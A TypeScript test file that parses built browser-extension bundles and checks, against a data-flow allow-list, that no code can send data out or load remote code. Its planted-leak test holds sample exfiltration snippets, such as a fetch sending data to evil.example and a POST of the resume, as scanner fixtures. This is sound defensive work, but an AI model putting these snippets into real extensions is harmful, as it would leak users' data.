// Privacy, proven on what ships: every .js of the built Chrome and Firefox extensions is parsed, and
// every way its code could send data out or load code must be accounted for by the allow-list below.
//
// Why this holds after minification. Minifiers rename locals, so nothing here matches minified
// text. Each bundle is parsed and bound by TypeScript (a JS program, no type checking), and we look
// for what a minifier cannot rename: global and property names (`fetch`, `XMLHttpRequest`,
// `WebSocket`, `sendBeacon`, `EventSource`, `importScripts`, `Worker`, `eval`, ...), string literals
// equal to one of them (`self["fetch"]`), `Function(...)`, computed access on a global object with
// a computed key (`self[name]`), every dynamic `import()`, every `<script>` element, and every remote
// URL written in JS, CSS, HTML or JSON. Each hit must match exactly one allow-list entry, and each
// entry states a property of the code around the hit, checked by data flow over bound symbols
// (scope-correct, so renaming changes nothing):
// - the worker's Docs export: a `.fetch(url, { credentials, cache, ... })` (a plain GET: no body,
//   method or headers) whose `url` is its function's own parameter, and that function is only ever
//   called with a `const` set from the export-URL builder, whose every return is
//   `${"https://docs.google.com"}/document/d/${...}/export?${...}`; the `fetch` it calls is the
//   handler's default dependency `(...a) => globalThis.fetch(...a)`;
// - the extension's own files: `fetch(u)` where `u` is `runtime.getURL(...)`, and WXT's
//   injectScript (Firefox), whose `<script>` gets only such a URL or that file's text;
// - Vite's modulepreload polyfill (extension pages): `fetch(link.href)` only for the
//   `<link rel=modulepreload>` of our own HTML, whose hrefs are extension paths;
// - a dead path: a library's `{ url }` stylesheet option that no call in the bundle passes.
// Every entry must still match something (else delete it), so the list stays minimal.
// A planted-leak test below keeps the scanner honest. Not covered: URLs assembled from pieces
// ("ht" + "tps://"), reflection over objects (`Object.values(deps)[0](...)`), the page world's own
// requests (not ours) and what is posted to the page; the e2e request recorder watches the running
// extension for those.
import { readdir, readFile } from 'node:fs/promises';
import { join, relative } from 'node:path';
import ts from 'typescript';
import { beforeAll, describe, expect, it } from 'vitest';
import { chromeBuildDir, firefoxBuildDir } from './builds.ts';

/** Globals and properties that can move data off the machine or load code. */
const SINKS = new Set([
  'fetch',
  'XMLHttpRequest',
  'WebSocket',
  'WebSocketStream',
  'WebTransport',
  'sendBeacon',
  'EventSource',
  'importScripts',
  'Worker',
  'SharedWorker',
  'RTCPeerConnection',
  'setUninstallURL',
  'eval',
]);

/** Remote URLs that may be written in the code: none is requested but the Docs export (see above). */
const URL_ALLOW: Array<{ prefix: string; why: string }> = [
  { prefix: 'https://docs.google.com', why: 'the Docs origin: content-script matches, URL parsing, the export builder' },
  { prefix: 'https://www.linkedin.com/', why: "the LinkedIn content script's match pattern" },
  { prefix: 'http://www.w3.org/', why: "XML namespace names (Preact's SVG, MathML, XHTML): identifiers, never fetched" },
  { prefix: 'https://developer.mozilla.org/', why: 'a link in an error message (@webext-core/isolated-element)' },
  { prefix: 'https://github.com/wxt-dev/wxt/', why: "a link in WXT's error messages" },
  { prefix: 'https://wxt.dev/', why: "a link in WXT's error messages" },
];

// ---------- a bundle, parsed and bound ----------

class Bundle {
  readonly sf: ts.SourceFile;
  readonly checker: ts.TypeChecker;
  readonly nodes: ts.Node[] = [];

  constructor(
    readonly build: string,
    readonly file: string,
    code: string,
  ) {
    const name = '/bundle.js';
    const parsed = ts.createSourceFile(name, code, ts.ScriptTarget.Latest, true, ts.ScriptKind.JS);
    const host: ts.CompilerHost = {
      getSourceFile: (n) => (n === name ? parsed : undefined),
      writeFile: () => {},
      getDefaultLibFileName: () => '/lib.d.ts',
      useCaseSensitiveFileNames: () => true,
      getCanonicalFileName: (f) => f,
      getCurrentDirectory: () => '/',
      getNewLine: () => '\n',
      fileExists: (n) => n === name,
      readFile: () => undefined,
    };
    // No lib: a global (fetch, window, ...) resolves to no symbol; every local resolves to its own.
    const program = ts.createProgram([name], { allowJs: true, noLib: true, noResolve: true, types: [] }, host);
    this.sf = program.getSourceFile(name)!;
    this.checker = program.getTypeChecker();
    const visit = (n: ts.Node): void => {
      this.nodes.push(n);
      ts.forEachChild(n, visit);
    };
    visit(this.sf);
  }

  symbol(n: ts.Node): ts.Symbol | undefined {
    return this.checker.getSymbolAtLocation(n);
  }

  /** Whether `id` names a global (declared nowhere in the bundle), not a local of the same name. */
  isGlobal(id: ts.Node): boolean {
    return !this.symbol(id)?.declarations?.some((d) => d.getSourceFile() === this.sf);
  }

  /** Every identifier bound to `sym`, its declarations included. */
  refs(sym: ts.Symbol): ts.Identifier[] {
    const name = sym.getName();
    return this.nodes.filter((n): n is ts.Identifier => ts.isIdentifier(n) && n.text === name && this.symbol(n) === sym);
  }

  /** The initializer of a `const` that `id` names (a const is never reassigned). */
  constInit(id: ts.Node | undefined): ts.Expression | undefined {
    if (!id || !ts.isIdentifier(id)) return undefined;
    const decl = this.symbol(id)?.valueDeclaration;
    return decl && ts.isVariableDeclaration(decl) && ts.isIdentifier(decl.name) && ts.getCombinedNodeFlags(decl) & ts.NodeFlags.Const
      ? decl.initializer
      : undefined;
  }

  /** Whether the parameter (or variable) `sym` is ever assigned after its declaration. */
  written(sym: ts.Symbol): boolean {
    return this.refs(sym).some((r) => {
      const p = r.parent;
      return (
        (ts.isBinaryExpression(p) && p.left === r && isAssignment(p.operatorToken.kind)) ||
        ((ts.isPrefixUnaryExpression(p) || ts.isPostfixUnaryExpression(p)) && p.operand === r)
      );
    });
  }

  /** `x.runtime.getURL(...)`, directly or through a const: a URL inside the extension. */
  isExtensionUrl(e: ts.Expression | undefined): boolean {
    const isGetUrl = (x: ts.Expression | undefined): boolean =>
      !!x &&
      ts.isCallExpression(x) &&
      ts.isPropertyAccessExpression(x.expression) &&
      x.expression.name.text === 'getURL' &&
      ts.isPropertyAccessExpression(x.expression.expression) &&
      x.expression.expression.name.text === 'runtime';
    return isGetUrl(e) || isGetUrl(this.constInit(e));
  }

  /** The calls of the function declared as `fn`, or null if it is also used as a value. */
  callsOf(fn: ts.FunctionLikeDeclaration): ts.CallExpression[] | null {
    const nameNode = fn.name ?? (ts.isVariableDeclaration(fn.parent) ? fn.parent.name : undefined);
    const sym = nameNode && this.symbol(nameNode);
    if (!sym) return null;
    const uses = this.refs(sym).filter((r) => r !== nameNode);
    const calls = uses.map((r) => (ts.isCallExpression(r.parent) && r.parent.expression === r ? r.parent : null));
    return calls.every((c): c is ts.CallExpression => c !== null) ? calls : null;
  }

  /** The code around `n`, for failure messages. */
  around(n: ts.Node): string {
    const start = n.getStart(this.sf);
    return `${this.build}/${this.file}: …${this.sf.text.slice(Math.max(0, start - 90), start + 90).replace(/\s+/g, ' ')}…`;
  }
}

const isAssignment = (k: ts.SyntaxKind): boolean => k >= ts.SyntaxKind.FirstAssignment && k <= ts.SyntaxKind.LastAssignment;

const isFunction = (n: ts.Node): n is ts.FunctionLikeDeclaration =>
  ts.isFunctionDeclaration(n) || ts.isFunctionExpression(n) || ts.isArrowFunction(n) || ts.isMethodDeclaration(n);

function enclosingFunction(n: ts.Node): ts.FunctionLikeDeclaration | undefined {
  for (let p = n.parent; p; p = p.parent) if (isFunction(p)) return p;
  return undefined;
}

/** The nearest enclosing function with a name (a declaration, or `const f = function/arrow`). */
function namedFunctionOf(n: ts.Node): ts.FunctionLikeDeclaration | undefined {
  for (let p = n.parent; p; p = p.parent) {
    if (ts.isFunctionDeclaration(p) && p.name) return p;
    if (isFunction(p) && ts.isVariableDeclaration(p.parent)) return p;
  }
  return undefined;
}

/** The call that the identifier `n` names: `fetch(...)` or `x.fetch(...)`. */
function callOf(n: ts.Node): ts.CallExpression | undefined {
  const callee = ts.isPropertyAccessExpression(n.parent) && n.parent.name === n ? n.parent : n;
  return ts.isCallExpression(callee.parent) && callee.parent.expression === callee ? callee.parent : undefined;
}

/** The last operand of a comma sequence (`return a(), b(), value`), parentheses removed. */
function lastOperand(e: ts.Expression): ts.Expression {
  let x = ts.skipPartiallyEmittedExpressions(e);
  while (ts.isParenthesizedExpression(x) || (ts.isBinaryExpression(x) && x.operatorToken.kind === ts.SyntaxKind.CommaToken)) {
    x = ts.isParenthesizedExpression(x) ? x.expression : x.right;
  }
  return x;
}

/** Whether `e` is the value `fn` returns (`return e`, `return a(), e`), not a part of it. */
function returnedBy(e: ts.Expression, fn: ts.FunctionLikeDeclaration): boolean {
  let x: ts.Node = e;
  while (ts.isParenthesizedExpression(x.parent) || (ts.isBinaryExpression(x.parent) && x.parent.operatorToken.kind === ts.SyntaxKind.CommaToken && x.parent.right === x)) {
    x = x.parent;
  }
  return ts.isReturnStatement(x.parent) && enclosingFunction(x.parent) === fn;
}

/** The value of `call` is thrown away: `f();`, `void f()`, `await f();` or `f().catch(...);`. */
function resultDropped(call: ts.Expression): boolean {
  const p = call.parent;
  if (ts.isExpressionStatement(p) || ts.isVoidExpression(p)) return true;
  if (ts.isAwaitExpression(p) || ts.isParenthesizedExpression(p)) return resultDropped(p);
  // A minifier joins statements with commas: `a(), b().catch(f)`. A left operand is always
  // dropped; the right one is dropped when the whole comma expression is.
  if (ts.isBinaryExpression(p) && p.operatorToken.kind === ts.SyntaxKind.CommaToken) return p.left === call || resultDropped(p);
  if (ts.isPropertyAccessExpression(p) && p.expression === call && /^(?:catch|finally)$/.test(p.name.text)) {
    const next = callOf(p.name);
    return !!next && resultDropped(next);
  }
  return false;
}

const propName = (p: ts.ObjectLiteralElementLike): string | undefined =>
  p.name && (ts.isIdentifier(p.name) || ts.isStringLiteral(p.name)) ? p.name.text : undefined;

// ---------- the allow-list ----------

interface Hit {
  bundle: Bundle;
  kind: string; // "fetch", "import()", "<script> element", ...
  node: ts.Node;
}

interface Allow {
  id: string;
  why: string;
  matches(hit: Hit): boolean;
}

/** Every return of `fn` is `${DOCS}/document/d/${...}/export?${...}` with DOCS = "https://docs.google.com". */
function isExportUrlBuilder(b: Bundle, fn: ts.Declaration | undefined): boolean {
  if (!fn || !ts.isFunctionDeclaration(fn) || !fn.body) return false;
  const returns = b.nodes.filter((n): n is ts.ReturnStatement => ts.isReturnStatement(n) && enclosingFunction(n) === fn);
  return (
    returns.length > 0 &&
    returns.every((r) => {
      const e = r.expression && lastOperand(r.expression);
      if (!e || !ts.isTemplateExpression(e)) return false;
      let text = e.head.text;
      let spans: readonly ts.TemplateSpan[] = e.templateSpans;
      const origin = b.constInit(spans[0]?.expression);
      if (text === '' && origin && ts.isStringLiteral(origin)) {
        text = origin.text + spans[0]!.literal.text;
        spans = spans.slice(1);
      }
      return text.startsWith('https://docs.google.com/document/d/') && spans.some((s) => s.literal.text.startsWith('/export?'));
    })
  );
}

/** Request options that only shape a GET: anything else (body, method, headers) could carry data. */
const READ_OPTIONS = new Set(['credentials', 'cache', 'redirect', 'signal', 'mode', 'referrerPolicy', 'priority']);

const ALLOW: Allow[] = [
  {
    id: 'docs-export-request',
    why: "the worker fetches the open Doc's txt export (entrypoints/background/docs-export.ts)",
    matches({ bundle: b, kind, node }) {
      if (b.file !== 'background.js' || kind !== 'fetch') return false;
      const call = callOf(node);
      if (!call || !ts.isPropertyAccessExpression(call.expression)) return false; // `deps.fetch(url, ...)`
      const url = call.arguments[0];
      const fetcher = namedFunctionOf(node);
      const param = fetcher?.parameters[0];
      const paramSym = param && b.symbol(param.name);
      if (!url || !fetcher || !paramSym || b.symbol(url) !== paramSym || b.written(paramSym)) return false;
      // A plain read: no body, method or headers that could carry text out, only these options.
      const init = call.arguments[1];
      if (call.arguments.length > 2 || (init && !ts.isObjectLiteralExpression(init))) return false;
      if (init && !init.properties.every((p) => ts.isPropertyAssignment(p) && READ_OPTIONS.has(propName(p) ?? ''))) return false;
      // The fetcher is only called, always with a const set from the export-URL builder.
      const calls = b.callsOf(fetcher);
      return (
        !!calls &&
        calls.length > 0 &&
        calls.every((c) => {
          const init = b.constInit(c.arguments[0]);
          return !!init && ts.isCallExpression(init) && isExportUrlBuilder(b, b.symbol(init.expression)?.valueDeclaration);
        })
      );
    },
  },
  {
    id: 'docs-export-default-fetch',
    why: "the export handler's injectable dependency `fetch: (...a) => globalThis.fetch(...a)`: callable only as `deps.fetch(...)`, which must be the export request above",
    matches({ bundle: b, kind, node }) {
      if (b.file !== 'background.js' || kind !== 'fetch') return false;
      // `node` is the key `fetch`, or the `fetch` of `globalThis.fetch` in the arrow that is its value.
      let prop: ts.Node | undefined = node.parent;
      for (let i = 0; prop && !ts.isPropertyAssignment(prop) && i < 4; i++) prop = prop.parent;
      if (!prop || !ts.isPropertyAssignment(prop) || propName(prop) !== 'fetch' || !ts.isArrowFunction(prop.initializer)) return false;
      const arrow = prop.initializer;
      const rest = arrow.parameters[0];
      const body = arrow.body;
      if (arrow.parameters.length !== 1 || !rest?.dotDotDotToken || !ts.isCallExpression(body)) return false;
      const callee = body.expression;
      const arg = body.arguments[0];
      const forwards =
        ts.isPropertyAccessExpression(callee) &&
        ts.isIdentifier(callee.expression) &&
        callee.expression.text === 'globalThis' &&
        b.isGlobal(callee.expression) &&
        callee.name.text === 'fetch' &&
        body.arguments.length === 1 &&
        !!arg &&
        ts.isSpreadElement(arg) &&
        b.symbol(arg.expression) === b.symbol(rest.name);
      return forwards && (node === prop.name || node === callee.name);
    },
  },
  {
    id: 'extension-file',
    why: "WXT reads the extension's own files: a content script's CSS for its shadow root, and (Firefox MV2) docs-bridge.js to inline it",
    matches({ bundle: b, kind, node }) {
      if (kind !== 'fetch' || ts.isPropertyAccessExpression(node.parent) || !b.isGlobal(node)) return false; // the global fetch(...)
      const call = callOf(node);
      return !!call && call.arguments.length === 1 && b.isExtensionUrl(call.arguments[0]);
    },
  },
  {
    id: 'vite-modulepreload-polyfill',
    why: "Vite's modulepreload polyfill, in the extension pages' shared chunk (popup, options): where the browser lacks modulepreload it fetches the href of each <link rel=modulepreload> of our own HTML, which are extension paths (checked below). Off with vite build.modulePreload.polyfill = false",
    matches({ bundle: b, kind, node }) {
      if (kind !== 'fetch' || !b.file.startsWith('chunks/') || ts.isPropertyAccessExpression(node.parent) || !b.isGlobal(node)) return false;
      const call = callOf(node);
      const href = call?.arguments[0];
      const preload = call && namedFunctionOf(call);
      const link = preload?.parameters[0] && b.symbol(preload.parameters[0].name);
      if (!href || !ts.isPropertyAccessExpression(href) || href.name.text !== 'href' || !link || b.symbol(href.expression) !== link) return false;
      const isModulePreload = (e: ts.Node): boolean => ts.isStringLiteralLike(e) && (e.text === 'modulepreload' || e.text === 'link[rel="modulepreload"]');
      // Every call passes a <link rel=modulepreload>: from `for (const l of document.querySelectorAll('link[rel="modulepreload"]'))`
      // or behind `l.rel === "modulepreload" && preload(l)`.
      const calls = b.callsOf(preload);
      return (
        !!calls &&
        calls.length > 0 &&
        calls.every((c) => {
          const arg = c.arguments[0] && b.symbol(c.arguments[0]);
          if (!arg) return false;
          for (let p: ts.Node = c; p.parent; p = p.parent) {
            const up = p.parent;
            if (ts.isForOfStatement(up) && up.statement === p) {
              const decl = ts.isVariableDeclarationList(up.initializer) ? up.initializer.declarations[0] : undefined;
              return (
                !!decl &&
                b.symbol(decl.name) === arg &&
                ts.isCallExpression(up.expression) &&
                ts.isPropertyAccessExpression(up.expression.expression) &&
                up.expression.expression.name.text === 'querySelectorAll' &&
                isModulePreload(up.expression.arguments[0]!)
              );
            }
            if (ts.isBinaryExpression(up) && up.operatorToken.kind === ts.SyntaxKind.AmpersandAmpersandToken && up.right === p) {
              // Somewhere on the left of the && chain: `<arg>.rel === "modulepreload"`.
              const guard = [up.left, ...(ts.isBinaryExpression(up.left) ? [up.left.left, up.left.right] : [])].some(
                (g) =>
                  ts.isBinaryExpression(g) &&
                  g.operatorToken.kind === ts.SyntaxKind.EqualsEqualsEqualsToken &&
                  ts.isPropertyAccessExpression(g.left) &&
                  g.left.name.text === 'rel' &&
                  b.symbol(g.left.expression) === arg &&
                  isModulePreload(g.right),
              );
              if (guard) return true;
            }
            if (isFunction(up) || ts.isBlock(up)) return false;
          }
          return false;
        })
      );
    },
  },
  {
    id: 'isolated-element-url-css',
    why: '@webext-core/isolated-element fetches a stylesheet given as `css: { url }`; every call in the bundle passes `css: { textContent }`, so that path is dead',
    matches({ bundle: b, kind, node }) {
      if (kind !== 'fetch' || !b.file.startsWith('content-scripts/') || !b.isGlobal(node)) return false;
      const call = callOf(node);
      const arg = call?.arguments[0];
      if (!call || !arg || !ts.isPropertyAccessExpression(arg) || arg.name.text !== 'url') return false;
      const css = b.symbol(arg.expression);
      // Guarded by `"url" in css ? ...fetch(css.url)... : ...`.
      let guarded = false;
      for (let p: ts.Node = call; p.parent && !isFunction(p.parent); p = p.parent) {
        const c = p.parent;
        if (ts.isConditionalExpression(c) && c.whenTrue === p && ts.isBinaryExpression(c.condition)) {
          const t = c.condition;
          guarded ||= t.operatorToken.kind === ts.SyntaxKind.InKeyword && ts.isStringLiteral(t.left) && t.left.text === 'url' && !!css && b.symbol(t.right) === css;
        }
      }
      const owner = namedFunctionOf(call);
      const calls = owner && b.callsOf(owner);
      return (
        guarded &&
        !!calls &&
        calls.length > 0 &&
        calls.every((c) => {
          const options = c.arguments[0];
          const cssProp = options && ts.isObjectLiteralExpression(options) ? options.properties.find((p) => propName(p) === 'css') : undefined;
          return (
            !!cssProp &&
            ts.isPropertyAssignment(cssProp) &&
            ts.isObjectLiteralExpression(cssProp.initializer) &&
            cssProp.initializer.properties.every((p) => ts.isPropertyAssignment(p) && propName(p) === 'textContent')
          );
        })
      );
    },
  },
  {
    id: 'extension-script-element',
    why: "WXT's injectScript (Firefox: docs-bridge.js into the Docs page): the element's src and text come only from the extension's own file",
    matches({ bundle: b, kind, node }) {
      if (kind !== '<script> element') return false;
      const create = node.parent;
      const decl = create.parent;
      if (!ts.isCallExpression(create) || !ts.isVariableDeclaration(decl) || decl.initializer !== create) return false;
      if (!(ts.getCombinedNodeFlags(decl) & ts.NodeFlags.Const)) return false;
      const el = b.symbol(decl.name);
      const owner = namedFunctionOf(create);
      if (!el || !owner) return false;
      const ownerCalls = b.callsOf(owner);
      return b.refs(el).every((r) => {
        if (r === decl.name) return true;
        const p = r.parent;
        // el.src = extension URL; el.text = text fetched from an extension URL.
        if (ts.isPropertyAccessExpression(p) && p.expression === r && ts.isBinaryExpression(p.parent) && p.parent.left === p) {
          const value = p.parent.right;
          if (p.name.text === 'src') return b.isExtensionUrl(value);
          if (p.name.text === 'text' || p.name.text === 'textContent') {
            const fetches = b.nodes.filter(
              (n): n is ts.CallExpression =>
                ts.isCallExpression(n) && n.pos >= value.pos && n.end <= value.end && ts.isIdentifier(n.expression) && n.expression.text === 'fetch',
            );
            return fetches.length === 1 && b.isExtensionUrl(fetches[0]!.arguments[0]);
          }
          return false;
        }
        // el.remove(), el.addEventListener(...), or a read such as `${el.src}`: no write.
        if (ts.isPropertyAccessExpression(p) && p.expression === r) return !callOf(p.name) || /^(?:remove|addEventListener|removeEventListener)$/.test(p.name.text);
        // `return { script: el }` to callers that all drop the result (`injectScript(...).catch(...)`).
        if (ts.isPropertyAssignment(p) && p.initializer === r && ts.isObjectLiteralExpression(p.parent) && returnedBy(p.parent, owner)) {
          return !!ownerCalls && ownerCalls.every((c) => resultDropped(c));
        }
        if (!ts.isCallExpression(p) || !p.arguments.includes(r)) return false;
        // Inserted into the page: parent.append(el).
        if (ts.isPropertyAccessExpression(p.expression) && /^(?:append|appendChild|prepend)$/.test(p.expression.name.text)) return true;
        // options?.modifyScript?.(el): no call of this function passes options.
        if (ts.isPropertyAccessExpression(p.expression) && p.expression.name.text === 'modifyScript') {
          const options = b.symbol(p.expression.expression);
          const index = owner.parameters.findIndex((q) => b.symbol(q.name) === options);
          return index >= 0 && !!ownerCalls && ownerCalls.every((c) => c.arguments.length <= index);
        }
        // A helper that only listens to the element (its load/error promise).
        const helper = ts.isIdentifier(p.expression) ? b.symbol(p.expression)?.valueDeclaration : undefined;
        const param = helper && ts.isFunctionDeclaration(helper) ? helper.parameters[p.arguments.indexOf(r)] : undefined;
        const paramSym = param && b.symbol(param.name);
        return (
          !!paramSym &&
          b.refs(paramSym).every(
            (q) =>
              q === param.name ||
              (ts.isPropertyAccessExpression(q.parent) &&
                q.parent.expression === q &&
                (/^(?:addEventListener|removeEventListener)$/.test(q.parent.name.text) ||
                  // a read, e.g. `${script.src}` in an error message
                  !(ts.isBinaryExpression(q.parent.parent) && q.parent.parent.left === q.parent) && !callOf(q.parent.name))),
          )
        );
      });
    },
  },
];

// ---------- the scan ----------

const GLOBAL_OBJECTS = new Set(['globalThis', 'self', 'window', 'top', 'parent', 'frames']);
const REMOTE_URL = /\b(?:https?|wss?|ftp):\/\/[^\s"'`<>)\\]*/gi;
const REMOTE_SCRIPT = /<script\b[^>]*\bsrc\s*=\s*["']?\s*(?:(?:https?|wss?|ftp):)?\/\//i;

interface Scan {
  hits: Hit[];
  urls: string[];
  scripts: string[];
}

/** Every sink hit in one JS bundle, and the remote URLs and remote <script src> written in it. */
function scan(bundle: Bundle): Scan {
  const out: Scan = { hits: [], urls: [], scripts: [] };
  const add = (kind: string, node: ts.Node): void => void out.hits.push({ bundle, kind, node });
  for (const n of bundle.nodes) {
    if (ts.isIdentifier(n) && SINKS.has(n.text)) add(n.text, n);
    else if ((ts.isStringLiteral(n) || ts.isNoSubstitutionTemplateLiteral(n)) && SINKS.has(n.text)) add(`"${n.text}" as a string`, n);
    else if (ts.isCallExpression(n) && n.expression.kind === ts.SyntaxKind.ImportKeyword) add('import()', n);
    else if ((ts.isCallExpression(n) || ts.isNewExpression(n)) && ts.isIdentifier(n.expression) && n.expression.text === 'Function') add('Function(...)', n);
    else if (
      ts.isElementAccessExpression(n) &&
      ts.isIdentifier(n.expression) &&
      GLOBAL_OBJECTS.has(n.expression.text) &&
      bundle.isGlobal(n.expression) &&
      !ts.isStringLiteralLike(n.argumentExpression) &&
      !ts.isNumericLiteral(n.argumentExpression)
    ) {
      add('computed access on a global object', n);
    } else if (
      // document.createElement("script"), and h("script", ...) / jsx("script", ...) alike
      ts.isStringLiteralLike(n) &&
      n.text.toLowerCase() === 'script' &&
      ts.isCallExpression(n.parent) &&
      n.parent.arguments[0] === n
    ) {
      add('<script> element', n);
    }
    if (ts.isStringLiteralLike(n) || ts.isTemplateLiteralToken(n) || ts.isRegularExpressionLiteral(n)) {
      for (const m of n.text.matchAll(REMOTE_URL)) out.urls.push(m[0]);
      if (REMOTE_SCRIPT.test(n.text)) out.scripts.push(n.text.slice(0, 120));
    }
  }
  return out;
}

const explain = (hit: Hit): Allow[] => ALLOW.filter((a) => a.matches(hit));

async function filesOf(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true });
  return entries.filter((e) => e.isFile()).map((e) => relative(dir, join(e.parentPath, e.name)).replaceAll('\\', '/'));
}

describe('the built bundles send nothing out', () => {
  const builds: Array<{ name: string; dir: string; files: string[]; scans: Map<string, Scan> }> = [];
  beforeAll(async () => {
    for (const [name, dir] of [['chrome-mv3', chromeBuildDir()], ['firefox-mv2', await firefoxBuildDir()]] as const) {
      const files = await filesOf(dir);
      const scans = new Map<string, Scan>();
      for (const file of files.filter((f) => f.endsWith('.js'))) scans.set(file, scan(new Bundle(name, file, await readFile(join(dir, file), 'utf8'))));
      builds.push({ name, dir, files, scans });
    }
  });

  it('every network or code-loading site is an allow-listed one, and every allow entry is used', () => {
    const unexplained: string[] = [];
    const used = new Map<string, Set<string>>(ALLOW.map((a) => [a.id, new Set()]));
    for (const { scans } of builds) {
      for (const { hits } of scans.values()) {
        for (const hit of hits) {
          const ok = explain(hit);
          if (ok.length !== 1) unexplained.push(`${hit.kind} (${ok.length ? `matches ${ok.map((a) => a.id).join(', ')}` : 'not allowed'}) in ${hit.bundle.around(hit.node)}`);
          for (const a of ok) used.get(a.id)!.add(`${hit.bundle.build}/${hit.bundle.file}`);
        }
      }
    }
    expect(builds.map((x) => x.scans.size).every((n) => n >= 3), 'the builds have too few .js files').toBe(true);
    expect(unexplained, 'code that could send data out: remove it, or allow it here on purpose').toEqual([]);
    const stale = [...used].filter(([, files]) => files.size === 0).map(([id]) => id);
    expect(stale, 'allow-list entries that match nothing any more: delete them').toEqual([]);
    // The cross-site request lives in the worker alone, in both builds.
    expect([...used.get('docs-export-request')!].sort()).toEqual(['chrome-mv3/background.js', 'firefox-mv2/background.js']);
  });

  it('names no remote host but the allow-listed ones, and loads nothing remote, in JS, CSS, HTML or JSON', async () => {
    const strays: string[] = [];
    for (const { name, dir, files, scans } of builds) {
      for (const file of files) {
        let { urls, scripts } = scans.get(file) ?? { urls: [] as string[], scripts: [] as string[] };
        if (/\.(?:css|html?|json)$/.test(file)) {
          const text = await readFile(join(dir, file), 'utf8');
          urls = [...text.matchAll(REMOTE_URL)].map((m) => m[0]);
          scripts = text.match(REMOTE_SCRIPT) ?? [];
          // HTML and CSS name only the extension's own files: no scheme, no protocol-relative `//`.
          for (const m of text.matchAll(/\b(?:src|href)\s*=\s*["']?\s*([^\s"'>]*)|url\(\s*["']?([^"')]*)/gi)) {
            const ref = m[1] ?? m[2] ?? '';
            if (/^(?:[a-z][a-z0-9+.-]*:|\/\/)/i.test(ref) && !/^data:/i.test(ref)) strays.push(`${name}/${file}: ${ref}`);
          }
        }
        for (const url of urls) if (!URL_ALLOW.some((a) => url.startsWith(a.prefix))) strays.push(`${name}/${file}: ${url}`);
        for (const s of scripts) strays.push(`${name}/${file}: remote <script src>: ${s}`);
      }
    }
    expect(strays).toEqual([]);
  });

  it('the scanner catches planted leaks, and the allow-list does not excuse look-alikes', () => {
    const unexplained = (code: string, file = 'background.js'): string[] =>
      scan(new Bundle('planted', file, code))
        .hits.filter((h) => explain(h).length !== 1)
        .map((h) => h.kind);
    const planted = [
      'fetch("https://evil.example/?q="+t)',
      'navigator.sendBeacon(u,d)',
      'new XMLHttpRequest',
      'new WebSocket(u)',
      'new EventSource(u)',
      'import(u)',
      'importScripts(u)',
      'new Worker(u)',
      'self["fetch"](u)',
      'self[k](u)',
      'eval(s)',
      'Function(s)()',
      'const s=document.createElement("script");s.src=u',
      'x.fetch(u)',
      // the export fetcher called with something else than the builder's URL
      'function b(e){return`${D}/document/d/${e}/export?format=txt`}const D="https://docs.google.com";async function f(e,t){await t.fetch(e,{})}const u=b(1);f(u,d);f(location.href,d)',
      // the export URL, but with the resume as a POST body
      'function b(e){return`${D}/document/d/${e}/export?format=txt`}const D="https://docs.google.com";async function f(e,t){await t.fetch(e,{method:"POST",body:s})}const u=b(1);f(u,d)',
      // a "builder" on another host
      'function b(e){return`${D}/document/d/${e}/export?x`}const D="https://evil.example";async function f(e,t){await t.fetch(e,{})}const u=b(1);f(u,d)',
      // an extension URL that is reassigned before the fetch
      'let u=chrome.runtime.getURL("a.css");u="https://evil.example";fetch(u)',
      // a script element pointed at a remote host
      'async function i(p){const u=chrome.runtime.getURL(p),s=document.createElement("script");s.src=u;s.src="https://cdn.example/x.js";document.head.append(s)}i("a.js")',
    ];
    for (const code of planted) expect(unexplained(`(function(){${code}})()`), code).not.toEqual([]);

    // And the allowed shapes, written plainly, pass.
    const exportRequest =
      'function b(e){if(!e)throw new Error("x");const t=new URLSearchParams({format:"txt"});return t.set("a","b"),`${D}/document/d/${e.docId}/export?${t}`}' +
      'const D="https://docs.google.com";const P=()=>({fetch:(...e)=>globalThis.fetch(...e)});' +
      'async function f(e,t){try{return await t.fetch(e,{credentials:"include"})}catch{return await t.fetch(e,{redirect:"manual"})}}' +
      'function h(r){const t=P();const u=b(r);return f(u,t)}';
    expect(unexplained(exportRequest)).toEqual([]);
    expect(unexplained('(function(){const u=chrome.runtime.getURL("/a.css");fetch(u)})()', 'content-scripts/a.js')).toEqual([]);
    const polyfill = (extra: string): string =>
      `(function(){for(const i of document.querySelectorAll('link[rel="modulepreload"]'))r(i);new MutationObserver(i=>{for(const s of i)for(const c of s.addedNodes)c.tagName==="LINK"&&c.rel==="modulepreload"&&r(c)});${extra}function r(i){fetch(i.href,{})}})()`;
    expect(unexplained(polyfill(''), 'chunks/x.js')).toEqual([]);
    expect(unexplained(polyfill('r(document.querySelector("a"));'), 'chunks/x.js')).not.toEqual([]);
    expect(unexplained(polyfill(''), 'content-scripts/x.js')).not.toEqual([]);

    const { urls, scripts } = scan(new Bundle('planted', 'x.js', 'const a="<script src=https://cdn.example/x.js></script>"'));
    expect(urls).toEqual(['https://cdn.example/x.js']);
    expect(scripts).toHaveLength(1);
  });
});
